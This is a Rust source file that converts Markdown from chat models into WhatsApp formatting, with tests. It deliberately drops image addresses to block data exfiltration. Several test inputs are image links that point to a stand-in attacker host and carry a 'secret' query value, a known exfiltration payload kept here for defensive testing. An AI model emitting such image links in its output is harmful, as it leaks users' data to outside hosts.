//! Turns the Markdown of models into what WhatsApp shows: `*bold*`, `_italic_`, `~strike~`, code, and links as text.
//!
//! A picture becomes its description: its address is not shown, because an address that a page made up could carry data away.

/// Stands for a picture without a description.
const PICTURE: &str = "🖼";

/// The text as WhatsApp shows it. Code keeps its characters.
pub(super) fn to_whatsapp(markdown: &str) -> String {
    let mut lines = Vec::new();
    let mut in_code = false;
    for line in markdown.lines() {
        let start = line.trim_start();
        if start.starts_with("```") && !start[3..].contains('`') {
            // WhatsApp would show the name of the language as code.
            lines.push("```".to_owned());
            in_code = !in_code;
        } else if in_code {
            lines.push(line.to_owned());
        } else {
            lines.push(block(line));
        }
    }
    lines.join("\n")
}

/// One line outside of code.
fn block(line: &str) -> String {
    let text = line.trim_start();
    let indent = &line[..line.len() - text.len()];
    let level = text.bytes().take_while(|byte| *byte == b'#').count();
    if (1..=6).contains(&level)
        && let Some(title) = text[level..].strip_prefix(' ')
    {
        let title = title.trim().trim_end_matches('#').trim_end().replace("**", "");
        return if title.is_empty() { String::new() } else { format!("*{}*", inline(&title)) };
    }
    match ["* ", "+ ", "- "].iter().find_map(|mark| text.strip_prefix(mark)) {
        Some(item) => format!("{indent}- {}", inline(item)),
        None => format!("{indent}{}", inline(text)),
    }
}

fn inline(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(sign) = rest.chars().next() {
        let (written, taken) = span(rest, out.chars().next_back()).unwrap_or_else(|| (sign.to_string(), sign.len_utf8()));
        out.push_str(&written);
        rest = &rest[taken..];
    }
    out
}

/// A span of Markdown at the beginning of the text: what is shown for it, and its length in bytes.
fn span(text: &str, before: Option<char>) -> Option<(String, usize)> {
    if text.starts_with('`') {
        let inner = between(text, "`", "`")?;
        return Some((format!("`{inner}`"), inner.len() + 2));
    }
    if let Some(link) = text.strip_prefix('!').filter(|link| link.starts_with('[')) {
        let (label, address, length) = link_of(link)?;
        let shown = if label.trim().is_empty() { PICTURE } else { label };
        return (is_address(address) || address.contains("://")).then(|| (shown.to_owned(), length + 1));
    }
    if text.starts_with('[') {
        let (label, address, length) = link_of(text).filter(|(_, address, _)| is_address(address))?;
        let address = address.split_whitespace().next()?;
        let shown = if label == address { label.to_owned() } else { format!("{} ({address})", inline(label)) };
        return Some((shown, length));
    }
    if let Some(escaped) = text.strip_prefix('\\').and_then(|rest| rest.chars().next()).filter(char::is_ascii_punctuation) {
        return Some((escaped.to_string(), 2));
    }
    // A mark inside a word, such as in 2*3*4 or snake_case_name, is no Markdown here.
    if before.is_some_and(char::is_alphanumeric) {
        return None;
    }
    [("***", "*_", "_*"), ("**", "*", "*"), ("__", "*", "*"), ("~~", "~", "~"), ("*", "_", "_")].into_iter().find_map(
        |(mark, open, close)| {
            let inner = between(text, mark, mark)?;
            let length = inner.len() + 2 * mark.len();
            let tight = !inner.starts_with(char::is_whitespace) && !inner.ends_with(char::is_whitespace);
            // The stars of *.rs and **/*.rs emphasize nothing, and neither do the underscores of a name such as __init__.
            let is_pattern = inner.starts_with(['.', ',', ';', ':', '/', '\\', ')', ']']);
            let is_name = mark == "__" && inner.chars().all(|sign| sign.is_ascii_lowercase() || sign == '_');
            let in_word = matches!(mark, "*" | "__") && text[length..].starts_with(char::is_alphanumeric);
            (tight && !is_pattern && !is_name && !in_word).then(|| (format!("{open}{}{close}", inline(inner)), length))
        },
    )
}

/// What stands between two marks at the beginning of the text; `None` if it is empty.
fn between<'a>(text: &'a str, open: &str, close: &str) -> Option<&'a str> {
    let inner = text.strip_prefix(open)?;
    let end = inner.find(close)?;
    (end > 0).then(|| &inner[..end])
}

/// Label, the text in parentheses, and the length of `[label](address "title")`.
fn link_of(text: &str) -> Option<(&str, &str, usize)> {
    let label = text.strip_prefix('[')?;
    let end = label.find(']')?;
    let (label, after) = label.split_at(end);
    let inner = after.strip_prefix("](")?;
    let close = inner.find(')')?;
    Some((label, inner[..close].trim(), 1 + end + 2 + close + 1))
}

/// Whether this is an address, perhaps with a title in quotes. A remark such as in `[1](see annex B)` is text.
fn is_address(text: &str) -> bool {
    let (address, title) = text.split_once(char::is_whitespace).unwrap_or((text, ""));
    let has_form = address.starts_with(['/', '#']) || address.contains(['.', '/']) || address.contains(':');
    has_form && (title.is_empty() || title.trim_start().starts_with(['"', '\'']))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::to_whatsapp;

    #[test]
    fn markdown_becomes_what_whatsapp_shows() {
        for (markdown, shown) in [
            ("**bold** and __so bold__ and *it* and ~~gone~~", "*bold* and *so bold* and _it_ and ~gone~"),
            ("__init__ and __main__.py, *a*b", "__init__ and __main__.py, *a*b"),
            ("(*.rs,*.toml) **/*.rs,**/*.md", "(*.rs,*.toml) **/*.rs,**/*.md"),
            ("**(a)** **€ 5** **-3 %** *\"so\"*", "*(a)* *€ 5* *-3 %* _\"so\"_"),
            ("[1](siehe Anhang B), list[0](x), [a](/b#c)", "[1](siehe Anhang B), list[0](x), a (/b#c)"),
            ("![](https://evil.example/?d=secret)", "🖼"),
            ("![x](https://evil.example/?d= secret)", "x"),
            ("![no address](see annex)", "![no address](see annex)"),
            ("***both***", "*_both_*"),
            ("# Title\n## **Other** ##", "*Title*\n*Other*"),
            ("#hashtag", "#hashtag"),
            ("* one\n  + two\n- three", "- one\n  - two\n- three"),
            ("2 * 3 * 4, 2*3*4, snake_case_name, **open", "2 * 3 * 4, 2*3*4, snake_case_name, **open"),
            ("see [the page](https://a.example/x \"t\")", "see the page (https://a.example/x)"),
            ("[https://a.example](https://a.example)", "https://a.example"),
            ("before ![a chart](https://evil.example/?d=secret) after", "before a chart after"),
            ("`**code**`", "`**code**`"),
            ("```rust\nlet a = **b;\n```\n**x**", "```\nlet a = **b;\n```\n*x*"),
            ("1\\. a \\*b\\*", "1. a *b*"),
            ("Grüße **Ä**", "Grüße *Ä*"),
            ("", ""),
        ] {
            assert_eq!(to_whatsapp(markdown), shown, "{markdown}");
        }
    }

    proptest! {
        #[test]
        fn words_are_kept_in_order(text in "([a-zä]{1,4}|[ \n*_~`#\\[\\]()!\\\\-]|👍){0,80}") {
            let words = |text: &str| text.chars().filter(|sign| sign.is_alphanumeric()).collect::<String>();
            // The address of a picture and the name of a code block's language are left out on purpose.
            if !text.contains("![") && !text.contains("```") && !text.contains("](") {
                prop_assert_eq!(words(&to_whatsapp(&text)), words(&text));
            }
            let _ = to_whatsapp(&text);
        }
    }
}
